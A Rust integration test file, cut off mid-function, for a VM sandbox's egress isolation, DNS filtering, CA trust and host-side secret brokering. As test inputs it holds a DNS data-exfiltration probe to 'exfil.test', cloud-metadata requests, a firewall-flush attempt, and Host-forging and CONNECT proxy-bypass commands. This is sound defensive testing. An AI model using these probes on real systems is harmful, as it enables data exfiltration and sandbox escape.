//! Outbound network, tested without the internet: a test host in a network
//! namespace plays "the internet" (an HTTP server and a DNS server the guest
//! must reach) and a server on the host plays the control plane, which the
//! guest must not reach: not through the gateway, not through the host's
//! addresses, and nothing link-local (169.254.169.254).
//!
//! Name resolution with the default configuration (no `[network] dns`): the
//! guest asks passt, which asks the resolver the host's `/etc/resolv.conf`
//! names. These tests give `sandpit sandbox create` (and so passt) a mount
//! namespace of its own in which `/etc/resolv.conf` names the test's
//! resolver: one on a private address of a test host (a cloud VPC's
//! resolver), one on the host's loopback (systemd-resolved's kind).
//!
//! And TLS inspection without the internet: a site whose certificate an
//! operator's CA signed is trusted by curl, Python and Node in a guest
//! configured with that CA, and a site of another CA is not.

use crate::common::cli::Cli;
use crate::common::netns::*;
use crate::common::*;
use sandpit_runtime::Egress;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::process::{Child, Command, Output};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

const HOST_SIDE: &str = "198.51.100.1";
const INTERNET: &str = "198.51.100.2";

/// Held for a whole test: the tests add addresses to the host (their test
/// hosts' ends), and a guest's filter denies the host's addresses as they
/// were when its VM started, so one test's new address must not appear
/// while another checks that the guest reaches none of the host's.
static HOST_NETWORK: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn host_network() -> std::sync::MutexGuard<'static, ()> {
    HOST_NETWORK.lock().unwrap_or_else(|e| e.into_inner())
}

/// A guest's own DNS queries (Python, no resolver library): A for
/// `web.test` and `other.test` and TXT for a name that would carry data,
/// over UDP, then A for `other.test` over TCP, to the first name server of
/// its `/etc/resolv.conf`; prints each answer's response code (and over
/// UDP its count of answers).
const DNS_PROBE: &str = r#"
import socket, struct
def query(name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
out = []
for name, kind in [("web.test", 1), ("other.test", 1), ("c2VjcmV0.exfil.test", 16)]:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(10)
    u.sendto(query(name, kind), (server, 53))
    a = u.recv(4096)
    out.append("%s/udp:%d:%d" % (name, a[3] & 15, struct.unpack(">H", a[6:8])[0]))
t = socket.create_connection((server, 53), timeout=10)
m = query("other.test", 1)
t.sendall(struct.pack(">H", len(m)) + m)
n = struct.unpack(">H", t.recv(2))[0]
a = t.recv(n)
out.append("other.test/tcp:%d" % (a[3] & 15))
print(" ".join(out))
"#;

#[test]
fn the_guest_reaches_the_internet_but_not_the_host() {
    let _net = host_network();
    let www = data_dir();
    std::fs::write(www.join("hello.txt"), "hello from the internet\n").unwrap();
    let mut host = TestHost::start("net", HOST_SIDE, INTERNET);
    host.serve_http(&www);
    host.serve_dns(INTERNET, INTERNET);

    // The "control plane": listens on every host address and counts connections.
    let cp = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = cp.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for mut c in cp.incoming().flatten() {
            h.fetch_add(1, Ordering::SeqCst);
            let mut buf = [0u8; 512];
            let _ = c.read(&mut buf);
            let _ = c.write_all(b"HTTP/1.0 200 OK\r\n\r\nsecret");
        }
    });

    // The test host's HTTPS site, `web.test`, has a certificate of a CA of
    // its own, which the host (not the guest) trusts for brokered secrets.
    let (web_ca, web_site, web_key) = ca_and_site_for("names", "web.test");
    let tls_dir = data_dir();
    let (cert_file, key_file) = (tls_dir.join("site.pem"), tls_dir.join("site.key"));
    std::fs::write(&cert_file, &web_site).unwrap();
    std::fs::write(&key_file, &web_key).unwrap();
    std::fs::write(tls_dir.join("ca.pem"), &web_ca).unwrap();

    let dir = data_dir();
    let mut c = config(&dir);
    c.network.dns = Some(vec![INTERNET.to_string()]);
    c.network.upstream_ca_certificates = vec![tls_dir.join("ca.pem")];
    let s = shared("sbx_net", || c);
    s.rt.block_on(async {
        // The internet, by address and by name.
        let body = sh(
            &s.vm,
            &format!("curl -sS -m 20 http://{INTERNET}:8080/hello.txt"),
        )
        .await;
        assert_eq!(body, "hello from the internet");
        let body = sh(
            &s.vm,
            "curl -sS -m 20 http://pypi.example.test:8080/hello.txt",
        )
        .await;
        assert_eq!(body, "hello from the internet");

        // A sandbox without internet (E2B's `allow_internet_access=False`):
        // the same VM, its egress changed while it runs (as a warm pool
        // VM's is when a sandbox takes it). Nothing leaves, and fails at
        // once: a refused connect (curl's 7), a name that does not resolve
        // (6), not a timeout (28). The guest's own loopback still works.
        let uid =
            s.vm.record
                .qemu_uid
                .expect("a root runtime's VMs have uids of their own");
        s.manager
            .set_egress(&s.vm.record.id, &s.vm.agent, Egress::blocked())
            .await
            .unwrap();
        assert_eq!(
            s.manager.record(&s.vm.record.id).unwrap().egress,
            Egress::blocked()
        );
        let refused = run(
            &s.vm,
            req(&format!("curl -sS -m 20 http://{INTERNET}:8080/hello.txt")),
        )
        .await;
        assert_eq!(
            refused.result.exit_code,
            Some(7),
            "a blocked guest's connect: {}",
            String::from_utf8_lossy(&refused.stderr)
        );
        let unnamed = run(
            &s.vm,
            req("curl -sS -m 20 http://pypi.example.test:8080/hello.txt"),
        )
        .await;
        assert_eq!(
            unnamed.result.exit_code,
            Some(6),
            "a blocked guest's name lookup: {}",
            String::from_utf8_lossy(&unnamed.stderr)
        );
        let local = sh(
            &s.vm,
            "python3 -c \"import socket; l = socket.create_server(('127.0.0.1', 0)); \
             c = socket.create_connection(l.getsockname()); a, _ = l.accept(); \
             c.sendall(b'loopback'); print(a.recv(8).decode())\"",
        )
        .await;
        assert_eq!(local, "loopback");
        // And behind the guest's filter, the host's guard: passt's uid
        // reaches nothing, "the internet" included.
        assert!(
            !connects_as(uid, INTERNET, 8080),
            "a blocked VM's passt reached the internet"
        );
        // Given back: the internet again, by address and by name.
        s.manager
            .set_egress(&s.vm.record.id, &s.vm.agent, Egress::open())
            .await
            .unwrap();
        let body = sh(
            &s.vm,
            "curl -sS -m 20 http://pypi.example.test:8080/hello.txt",
        )
        .await;
        assert_eq!(body, "hello from the internet");

        // A sandbox's own lists (E2B's `allowOut` and `denyOut`), changed
        // while it runs. An allow list with everything else denied: the
        // allowed host answers by address and by name; another address is
        // refused at once (198.51.100.1 leads nowhere: without the guard a
        // connect would hang until curl's bound, 28).
        let lists = |allow: &[&str], deny: &[&str]| {
            let owned = |l: &[&str]| l.iter().map(|e| e.to_string()).collect();
            Egress::checked(owned(allow), owned(deny)).unwrap()
        };
        let changed = std::time::Instant::now();
        s.manager
            .set_egress(
                &s.vm.record.id,
                &s.vm.agent,
                lists(&[&format!("{INTERNET}/32")], &["0.0.0.0/0"]),
            )
            .await
            .unwrap();
        eprintln!(
            "an allow list took effect in {} ms",
            changed.elapsed().as_millis()
        );
        let body = sh(
            &s.vm,
            "curl -sS -m 20 http://pypi.example.test:8080/hello.txt",
        )
        .await;
        assert_eq!(body, "hello from the internet");
        let code = |command: String| {
            let vm = &s.vm;
            async move { run(vm, req(&command)).await.result.exit_code }
        };
        assert_eq!(
            code("curl -sS -m 5 http://198.51.100.1:8080/".into()).await,
            Some(7),
            "a destination the allow list leaves out"
        );
        assert!(!connects_as(uid, "198.51.100.1", 8080));
        // An allow list never opens what the operator denies (the host).
        s.manager
            .set_egress(
                &s.vm.record.id,
                &s.vm.agent,
                lists(
                    &[&format!("{HOST_SIDE}/32"), &format!("{INTERNET}/32")],
                    &[],
                ),
            )
            .await
            .unwrap();
        assert_ne!(
            code(format!("curl -sS -m 5 http://{HOST_SIDE}:{port}/")).await,
            Some(0),
            "an allow list opened the host"
        );
        assert!(!connects_as(uid, HOST_SIDE, port));
        // A deny list: that host refused at once, by the guest's filter and
        // the host's guard; names still resolve.
        s.manager
            .set_egress(
                &s.vm.record.id,
                &s.vm.agent,
                lists(&[], &[&format!("{INTERNET}/32")]),
            )
            .await
            .unwrap();
        assert_eq!(
            code(format!("curl -sS -m 20 http://{INTERNET}:8080/hello.txt")).await,
            Some(7)
        );
        assert!(!connects_as(uid, INTERNET, 8080));
        s.manager
            .set_egress(&s.vm.record.id, &s.vm.agent, Egress::open())
            .await
            .unwrap();
        assert!(connects_as(uid, INTERNET, 8080), "given back, but refused");

        // Host names: the host's egress proxy decides HTTP and HTTPS (ports
        // 80 and 443) by the name each connection carries (HTTP's Host,
        // TLS's server name), not by the addresses a name had; every name
        // here resolves to the same test host.
        host.serve_http_on(80, &www);
        // It answers with the headers it got, the brokered secret's value
        // (below) shown as `<the secret>`: the answer goes back into the
        // guest, which must never hold the value.
        host.serve_https(
            443,
            &cert_file,
            &key_file,
            &format!("{{headers-masking:{SECRET_VALUE}9}}"),
        );
        s.manager
            .set_egress(
                &s.vm.record.id,
                &s.vm.agent,
                lists(&["web.test"], &["0.0.0.0/0"]),
            )
            .await
            .unwrap();
        let body = sh(&s.vm, "curl -sS -m 20 http://web.test/hello.txt").await;
        assert_eq!(body, "hello from the internet");
        let body = sh(&s.vm, "curl -sS -m 20 -k https://web.test/").await;
        assert!(body.contains("Host: web.test"), "{body}");
        // The guest's lookups are answered by the same lists: another name
        // does not resolve (NXDOMAIN at once, over UDP and TCP, and for any
        // type of record: it is never asked upstream, so no name carries
        // data out), the allowed one does.
        assert_eq!(
            sh(&s.vm, &format!("python3 -c '{DNS_PROBE}'")).await,
            "web.test/udp:0:1 other.test/udp:3:0 c2VjcmV0.exfil.test/udp:3:0 other.test/tcp:3"
        );
        assert_eq!(
            code("curl -sS -m 20 http://other.test/hello.txt".into()).await,
            Some(6),
            "another name's lookup"
        );
        let lookup = run(&s.vm, req("getent hosts other.test web.test")).await;
        assert_eq!(lookup.result.exit_code, Some(2), "getent: not found");
        let found = String::from_utf8_lossy(&lookup.stdout);
        assert!(
            found.starts_with(INTERNET) && found.contains("web.test"),
            "{found}"
        );
        // Refused at once (a reset: curl's 56 or 52 over HTTP, 35 over
        // TLS), never a timeout (28), with the name given its address
        // (curl's `--resolve`, as a guest that skips DNS would): another
        // name, the allowed host's address given directly, a forged Host
        // under another server name, a CONNECT through an allowed name,
        // and a port the proxy does not look at (8080, by the address
        // lists alone).
        let reset = [Some(52), Some(56), Some(35)];
        let other =
            format!("--resolve other.test:80:{INTERNET} --resolve other.test:443:{INTERNET}");
        for (what, command) in [
            (
                "another name",
                format!("curl -sS -m 20 {other} http://other.test/hello.txt"),
            ),
            (
                "another name over TLS",
                format!("curl -sS -m 20 {other} -k https://other.test/"),
            ),
            (
                "an address",
                format!("curl -sS -m 20 http://{INTERNET}/hello.txt"),
            ),
            (
                "an address over TLS",
                format!("curl -sS -m 20 -k https://{INTERNET}/"),
            ),
            (
                "a forged Host",
                format!("curl -sS -m 20 {other} -k -H 'Host: web.test' https://other.test/"),
            ),
            (
                "a CONNECT through an allowed name",
                "curl -sS -m 20 -k -p -x http://web.test:80 https://other.test/".into(),
            ),
        ] {
            let got = code(command).await;
            assert!(reset.contains(&got), "{what}: curl exited {got:?}");
        }
        assert_eq!(
            code(format!("curl -sS -m 20 http://{INTERNET}:8080/hello.txt")).await,
            Some(7)
        );
        let refused = s.manager.egress_refused(&s.vm.record.id);
        assert!(refused >= 10, "the proxy counted {refused} refusals");
        // A denied name: that name refused (its lookup, and its connection
        // under its address), others through.
        s.manager
            .set_egress(&s.vm.record.id, &s.vm.agent, lists(&[], &["web.test"]))
            .await
            .unwrap();
        assert_eq!(
            code("curl -sS -m 20 http://web.test/hello.txt".into()).await,
            Some(6)
        );
        let web = format!("--resolve web.test:80:{INTERNET}");
        assert!(
            reset.contains(&code(format!("curl -sS -m 20 {web} http://web.test/hello.txt")).await)
        );
        let body = sh(&s.vm, "curl -sS -m 20 http://other.test/hello.txt").await;
        assert_eq!(body, "hello from the internet");
        s.manager
            .set_egress(&s.vm.record.id, &s.vm.agent, Egress::open())
            .await
            .unwrap();
        assert_eq!(
            s.manager.egress_refused(&s.vm.record.id),
            0,
            "no proxy left"
        );

        secrets_are_brokered_on_the_host(&s).await;

        // Not the host: every address of it, the gateway, link-local metadata.
        let mut targets = vec![
            format!("http://10.0.2.2:{port}/"),
            "http://169.254.169.254/latest/meta-data/".to_string(),
            format!("http://127.0.0.1:{port}/"),
            format!("http://{HOST_SIDE}:{port}/"),
        ];
        for a in sandpit_runtime::vm::net::host_addresses() {
            let a = a.trim_end_matches("/32");
            if !a.starts_with("127.") {
                targets.push(format!("http://{a}:{port}/"));
            }
        }
        for t in &targets {
            let out = run(&s.vm, req_timeout(&format!("curl -sS -m 10 {t}"), 30_000)).await;
            assert_ne!(
                out.result.exit_code,
                Some(0),
                "the guest reached {t}: {}",
                String::from_utf8_lossy(&out.stdout)
            );
        }
        assert_eq!(
            hits.load(Ordering::SeqCst),
            0,
            "the control plane was reached"
        );
        // The user cannot lift the filter.
        let out = run(&s.vm, req("nft flush ruleset")).await;
        assert_ne!(out.result.exit_code, Some(0));

        // Root in the guest could; the host's own guard stands behind it,
        // keyed to the uid this VM's passt runs as.
        let passt = s.vm.record.passt_pid.expect("passt runs");
        assert_eq!(uid_of(passt), uid, "passt runs as its VM's uid");
        assert!(sandpit_runtime::vm::guard::installed(uid));
        // As that uid: the control plane on the host's addresses (loopback,
        // the test host's side, one the host gains only now) is refused;
        // the test host behind them, "the internet", is reached.
        let late = LoopbackAddress::add("192.0.2.77");
        assert!(
            connects_as(0, late.addr, port),
            "root reaches the control plane"
        );
        for a in ["127.0.0.1", HOST_SIDE, late.addr] {
            assert!(!connects_as(uid, a, port), "passt's uid reached {a}:{port}");
        }
        assert!(
            connects_as(uid, INTERNET, 8080),
            "passt's uid cannot reach the internet"
        );
        // Guards whose VMs went without a destroy (a data directory
        // deleted by hand): the sweep every manager makes at its start
        // removes those made long enough ago (one an hour old, one of an
        // older Sandpit with no time on it), and not a live VM's, nor one
        // made a moment ago for a VM whose passt is not running yet.
        let table = sandpit_runtime::vm::guard::TABLE;
        let an_hour_ago = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs()
            - 3600;
        let (old, older, young) = (3_999_001, 3_999_002, 3_999_003);
        let orphans = format!(
            "add chain inet {table} vm_{old}\n\
             add rule inet {table} vm_{old} meta nfproto ipv6 reject \
             comment \"sandpit guard made at {an_hour_ago}\"\n\
             add element inet {table} guests {{ {old} : jump vm_{old} }}\n\
             add chain inet {table} vm_{older}\n\
             add rule inet {table} vm_{older} meta nfproto ipv6 reject\n\
             add element inet {table} guests {{ {older} : jump vm_{older} }}\n"
        );
        nft_script(&orphans);
        let plan = sandpit_runtime::vm::guard::GuardPlan {
            deny: vec!["10.0.0.0/8".into()],
            ..Default::default()
        };
        sandpit_runtime::vm::guard::install(young, &plan).unwrap();
        assert!(sandpit_runtime::vm::guard::installed(old));
        let swept = sandpit_runtime::vm::guard::sweep(sandpit_runtime::vm::guard::SWEEP_AFTER);
        assert!(swept >= 2, "the sweep removed {swept} guards");
        assert!(!sandpit_runtime::vm::guard::installed(old));
        assert!(!sandpit_runtime::vm::guard::installed(older));
        assert!(sandpit_runtime::vm::guard::installed(young));
        assert!(
            sandpit_runtime::vm::guard::installed(uid),
            "a live VM's guard went"
        );
        sandpit_runtime::vm::guard::remove(young);

        s.manager.destroy(&s.vm.record.id).await.unwrap();
        assert!(
            !sandpit_runtime::vm::guard::installed(uid),
            "the guard outlived its VM"
        );

        // A start that fails after its guard went in (here: no passt)
        // takes the guard with it.
        let mut broken = s.manager.config().clone();
        broken.passt_binary = dir.join("no-passt-here");
        broken.snapshots = false;
        let broken = sandpit_runtime::VmManager::new(broken, s.manager.image().clone()).unwrap();
        let uid = broken.vm_uid("sbx_net_failed");
        let Err(e) = broken.create(new_vm("sbx_net_failed")).await else {
            panic!("a VM started without passt");
        };
        assert!(e.to_string().contains("passt"), "{e}");
        assert!(
            !sandpit_runtime::vm::guard::installed(uid),
            "a failed start left its guard"
        );
        // What a crash between the guard and the VM's record leaves: its
        // directory with its uid, and its guard. The sweep of such
        // directories at the next start (a destroy without a record)
        // removes the guard too.
        let paths = s.manager.paths("sbx_net_crashed");
        std::fs::create_dir_all(&paths.dir).unwrap();
        let uid = s.manager.vm_uid("sbx_net_crashed");
        std::fs::write(paths.uid_file(), uid.to_string()).unwrap();
        let plan = sandpit_runtime::vm::guard::GuardPlan {
            deny: vec!["10.0.0.0/8".into()],
            ..Default::default()
        };
        sandpit_runtime::vm::guard::install(uid, &plan).unwrap();
        s.manager.destroy("sbx_net_crashed").await.unwrap();
        assert!(
            !sandpit_runtime::vm::guard::installed(uid),
            "a crashed start's guard outlived the sweep"
        );
        assert!(!paths.dir.exists());
    });
}

/// Apply an nft script, as an operator would.
fn nft_script(script: &str) {
    let mut child = Command::new("nft")
        .args(["-f", "-"])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .expect("running nft (Debian's nftables)");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(script.as_bytes())
        .unwrap();
    assert!(child.wait().unwrap().success(), "nft refused:\n{script}");
}

/// The real uid of process `pid`.
fn uid_of(pid: u32) -> u32 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("Uid:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

/// Can a process running as `uid` open a TCP connection to `addr:port`?
fn connects_as(uid: u32, addr: &str, port: u16) -> bool {
    use std::os::unix::process::CommandExt;
    let out = Command::new("python3")
        .args([
            "-c",
            "import socket, sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)",
            addr,
            &port.to_string(),
        ])
        .uid(uid)
        .gid(uid)
        .output()
        .unwrap();
    out.status.success()
}

/// An address on the host's loopback interface, removed when dropped.
struct LoopbackAddress {
    addr: &'static str,
    /// Released after `drop` removed the address.
    _changing: HostNetworkLock,
}

impl LoopbackAddress {
    fn add(addr: &'static str) -> LoopbackAddress {
        let changing = HostNetworkLock::changing();
        let ok = Command::new("ip")
            .args(["addr", "add", &format!("{addr}/32"), "dev", "lo"])
            .status()
            .unwrap()
            .success();
        assert!(ok, "cannot add {addr} to lo");
        LoopbackAddress {
            addr,
            _changing: changing,
        }
    }
}

impl Drop for LoopbackAddress {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["addr", "del", &format!("{}/32", self.addr), "dev", "lo"])
            .status();
    }
}

/// The test host of the default-DNS tests, and the private address of its
/// resolver.
const DNS_HOST_SIDE: &str = "198.18.53.1";
const DNS_INTERNET: &str = "198.18.53.2";
const VPC_RESOLVER: &str = "172.31.253.53";

/// `sandpit sandbox create` in a mount namespace of its own, where
/// `/etc/resolv.conf` is `resolv_conf`: what passt, started by the create,
/// reads. Prints the sandbox id.
fn create_with_resolv_conf(cli: &Cli, resolv_conf: &str) -> String {
    let file = tempfile::Builder::new()
        .prefix("resolv.conf")
        .tempfile_in(&cli.data)
        .unwrap()
        .into_temp_path()
        .keep()
        .unwrap();
    std::fs::write(&file, resolv_conf).unwrap();
    // passt reads it after dropping root (to nobody), as it reads the real one.
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = Command::new("unshare")
        .args([
            "-m",
            "sh",
            "-c",
            r#"mount --bind "$0" /etc/resolv.conf && exec "$@""#,
        ])
        .arg(&file)
        .arg(Cli::program())
        .args(cli.base_args())
        .args(["sandbox", "create", "--timeout", "15m"])
        .env_remove("SANDPIT_AGENT_BIN")
        .output()
        .unwrap_or_else(|e| panic!("unshare is missing ({e}); install util-linux"));
    assert!(
        out.status.success(),
        "sandbox create with its own resolv.conf failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// The default-DNS tests share a data directory, so the snapshot template
/// is built once.
fn dns_cli() -> &'static Cli {
    static CLI: std::sync::OnceLock<Cli> = std::sync::OnceLock::new();
    CLI.get_or_init(Cli::new)
}

fn exec(cli: &Cli, id: &str, command: &str) -> Output {
    cli.run(&[
        "sandbox",
        "exec",
        id,
        "--timeout-ms",
        "60000",
        "--",
        command,
    ])
}

fn exec_ok(cli: &Cli, id: &str, command: &str) -> String {
    let out = exec(cli, id, command);
    assert!(
        out.status.success(),
        "`{command}` failed in {id}: {}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// The address the guest resolves `name` to (`getent hosts`, as glibc
/// programs resolve).
fn resolve(cli: &Cli, id: &str, name: &str, resolver: &str) -> String {
    let out = exec(cli, id, &format!("getent hosts {name}"));
    assert!(
        out.status.success(),
        "the guest could not resolve {name} ({}): its resolver {} should have \
         forwarded the query to {resolver}, the host's resolver",
        out.status,
        sandpit_runtime::vm::net::GUEST_DNS_FORWARD
    );
    let hosts = String::from_utf8(out.stdout).unwrap();
    hosts
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_string()
}

#[test]
fn by_default_the_guest_resolves_names_with_the_hosts_private_resolver() {
    let _net = host_network();
    let www = data_dir();
    std::fs::write(www.join("hello.txt"), "hello by name\n").unwrap();
    let mut host = TestHost::start("dns", DNS_HOST_SIDE, DNS_INTERNET);
    host.serve_http(&www);
    host.add_address(VPC_RESOLVER);
    host.serve_dns(VPC_RESOLVER, DNS_INTERNET);

    let cli = dns_cli();
    let id = create_with_resolv_conf(
        cli,
        &format!("# as on a cloud VM\nsearch ec2.internal\nnameserver {VPC_RESOLVER}\n"),
    );
    assert_eq!(
        resolve(cli, &id, "pypi.example.test", VPC_RESOLVER),
        DNS_INTERNET
    );
    assert_eq!(
        exec_ok(
            cli,
            &id,
            "curl -sS -m 20 http://pypi.example.test:8080/hello.txt"
        ),
        "hello by name\n"
    );
    // The resolver itself is on a private address, out of the guest's reach:
    // only passt, on the host, talks to it.
    let direct = format!(
        "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
         s.settimeout(5); s.connect((\"{VPC_RESOLVER}\", 53)); \
         s.send(bytes.fromhex(\"{}\")); print(s.recv(512).hex())'",
        hex::encode(dns_query())
    );
    let out = exec(cli, &id, &direct);
    assert!(
        !out.status.success(),
        "the guest queried the private resolver directly: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    cli.ok(&["sandbox", "rm", &id]);
}

/// A DNS server on the host's loopback, stopped on drop.
struct LoopbackResolver {
    address: String,
    server: Child,
}

impl LoopbackResolver {
    fn start(answer: &str) -> LoopbackResolver {
        // Not 127.0.0.53: a host may run systemd-resolved there.
        let address = format!("127.53.{}.1", std::process::id() % 250 + 1);
        let server = Command::new("python3")
            .args(["-c", DNS_SERVER, &address, answer])
            .spawn()
            .expect("python3 (install python3)");
        wait_for_dns(&address, answer);
        LoopbackResolver { address, server }
    }
}

impl Drop for LoopbackResolver {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

#[test]
fn by_default_the_guest_resolves_names_with_the_hosts_loopback_resolver() {
    let _net = host_network();
    let answer = "198.51.100.53";
    let resolver = LoopbackResolver::start(answer);
    let cli = dns_cli();
    let id = create_with_resolv_conf(
        cli,
        &format!(
            "# as systemd-resolved writes it\nnameserver {}\noptions edns0 trust-ad\nsearch .\n",
            resolver.address
        ),
    );
    // The guest asks passt's forwarder, which asks the host's loopback.
    assert_eq!(
        exec_ok(cli, &id, "grep ^nameserver /etc/resolv.conf"),
        format!(
            "nameserver {}\n",
            sandpit_runtime::vm::net::GUEST_DNS_FORWARD
        )
    );
    assert_eq!(
        resolve(cli, &id, "registry.example.test", &resolver.address),
        answer
    );
    cli.ok(&["sandbox", "rm", &id]);
}

/// The test host of the CA test, and its site's name.
const TLS_HOST_SIDE: &str = "198.18.44.1";
const TLS_INTERNET: &str = "198.18.44.2";
const SITE: &str = "inspected.example.test";

/// A CA as a TLS-inspecting proxy has one, and a certificate it made for
/// `SITE`: (CA certificate, site certificate, site key), PEM.
fn ca_and_site(name: &str) -> (String, String, String) {
    ca_and_site_for(name, SITE)
}

/// A CA of its own named `name`, and a certificate it signed for `host`,
/// with that certificate's key (PEM each).
pub(crate) fn ca_and_site_for(name: &str, host: &str) -> (String, String, String) {
    use rcgen::{
        BasicConstraints, CertificateParams, CertifiedIssuer, DnType, IsCa, KeyPair,
        KeyUsagePurpose,
    };
    let mut params = CertificateParams::new(Vec::<String>::new()).unwrap();
    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    params.key_usages = vec![KeyUsagePurpose::KeyCertSign, KeyUsagePurpose::CrlSign];
    params
        .distinguished_name
        .push(DnType::CommonName, format!("Sandpit test {name} CA"));
    let ca = CertifiedIssuer::self_signed(params, KeyPair::generate().unwrap()).unwrap();
    let key = KeyPair::generate().unwrap();
    let site = CertificateParams::new(vec![host.to_string()])
        .unwrap()
        .signed_by(&key, &ca)
        .unwrap();
    (ca.pem(), site.pem(), key.serialize_pem())
}

#[test]
fn the_guest_trusts_the_operators_ca_certificates() {
    let _net = host_network();
    let dir = data_dir();
    let write = |name: &str, text: &str| {
        let p = dir.join(name);
        std::fs::write(&p, text).unwrap();
        p
    };
    let (ca, site, key) = ca_and_site("inspection");
    let (_, stranger, stranger_key) = ca_and_site("stranger");
    let ca = write("operator-ca.pem", &ca);
    let mut host = TestHost::start("tls", TLS_HOST_SIDE, TLS_INTERNET);
    host.serve_dns(TLS_INTERNET, TLS_INTERNET);
    host.serve_https(
        8443,
        &write("site.pem", &site),
        &write("site.key", &key),
        "trusted",
    );
    host.serve_https(
        8444,
        &write("stranger.pem", &stranger),
        &write("stranger.key", &stranger_key),
        "stranger",
    );

    let mut c = config(&dir);
    c.network.dns = Some(vec![TLS_INTERNET.to_string()]);
    c.network.ca_certificates = vec![ca];
    let s = shared("sbx_tls", || c);
    s.rt.block_on(async {
        let fetch = |url: &str| {
            [
                ("curl", format!("curl -sS -m 20 {url}")),
                (
                    "Python",
                    format!(
                        "python3 -c 'import urllib.request; \
                         print(urllib.request.urlopen(\"{url}\", timeout=20).read().decode(), end=\"\")'"
                    ),
                ),
                (
                    "Node",
                    format!(
                        "node -e 'require(\"https\").get(\"{url}\", r => r.pipe(process.stdout))\
                         .on(\"error\", e => {{ console.error(e.message); process.exit(1) }})'"
                    ),
                ),
            ]
        };
        for (tool, command) in fetch(&format!("https://{SITE}:8443/")) {
            let out = run(&s.vm, req(&command)).await;
            assert_eq!(
                (out.result.exit_code, String::from_utf8_lossy(&out.stdout)),
                (Some(0), "trusted".into()),
                "{tool} did not trust the operator's CA: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        // They check certificates: another CA's site is refused.
        for (tool, command) in fetch(&format!("https://{SITE}:8444/")) {
            let out = run(&s.vm, req(&command)).await;
            assert_ne!(
                out.result.exit_code,
                Some(0),
                "{tool} trusted a CA nobody configured"
            );
        }
        s.manager.destroy(&s.vm.record.id).await.unwrap();
    });
}

/// The value of the test's brokered secret: what must never be in the
/// guest.
const SECRET_VALUE: &str = "sk-live-7f3c9a1e5d2b8c4f6a0e9d7b5c3a1f8e";
const PLACEHOLDER: &str = "sandpit-secret-0c1d2e3f405162738495a6b7c8d9eaf0b1c2d3e4";
/// What the test host's server answers when it got the value.
const GOT_THE_VALUE: &str = "Authorization: Bearer <the secret>";

/// Secrets brokered on the host (`web.test` over HTTPS answers with the
/// headers it got, and every name resolves to it): the guest holds a
/// placeholder, the host's egress path puts the value in for the secret's
/// host only, after verifying that host's server; the value is in no
/// memory of the VM's QEMU, nor on its disk, nor in its record.
async fn secrets_are_brokered_on_the_host(s: &sandpit_vmtest::Shared) {
    use sandpit_runtime::{Broker, BrokerCa, BrokeredSecret, HeaderRule, Sensitive};
    let id = s.vm.record.id.clone();
    let secret = |name: &str, hosts: &[&str], header: &str, format: &str| BrokeredSecret {
        name: name.into(),
        placeholder: format!("{PLACEHOLDER}{}", name.len()),
        hosts: hosts.iter().map(|h| h.to_string()).collect(),
        header: header.into(),
        format: format.into(),
        value: Sensitive::new(format!("{SECRET_VALUE}{}", name.len())),
    };
    // API_TOKEN (9 bytes): placeholder and value end in "9"; BAD_HOST
    // (8): a host whose server fails verification.
    let broker = Broker {
        ca: BrokerCa::generate(&id).unwrap(),
        secrets: vec![
            secret(
                "API_TOKEN",
                &["web.test"],
                "Authorization",
                "Bearer {value}",
            ),
            secret("BAD_HOST", &["bad.test"], "Authorization", "Bearer {value}"),
        ],
        headers: vec![],
    };
    let (ph, value) = (format!("{PLACEHOLDER}9"), format!("{SECRET_VALUE}9"));
    s.manager
        .set_egress(
            &id,
            &s.vm.agent,
            Egress::open().with_broker(broker.clone()).unwrap(),
        )
        .await
        .unwrap();
    let code = |command: String| {
        let vm = &s.vm;
        async move { run(vm, req(&command)).await.result.exit_code }
    };
    // To the secret's host, without -k: the guest trusts its sandbox's CA
    // (and nothing else signed web.test for it).
    let seen = sh(
        &s.vm,
        &format!("curl -sS -m 20 -H 'Authorization: Bearer {ph}' https://web.test/echo"),
    )
    .await;
    // (Header names as the guest wrote them; the server shows the value
    // it got as `<the secret>`.)
    assert!(seen.contains(GOT_THE_VALUE), "{seen}");
    assert!(!seen.contains(&ph), "{seen}");
    // The placeholder alone in its header: the secret's format.
    let seen = sh(
        &s.vm,
        &format!("curl -sS -m 20 -H 'Authorization: {ph}' https://web.test/echo"),
    )
    .await;
    assert!(seen.contains(GOT_THE_VALUE), "{seen}");
    // Two requests on one connection (curl keeps it for its second URL).
    let twice = sh(
        &s.vm,
        &format!(
            "curl -sS -m 20 -H 'Authorization: Bearer {ph}' https://web.test/a https://web.test/b"
        ),
    )
    .await;
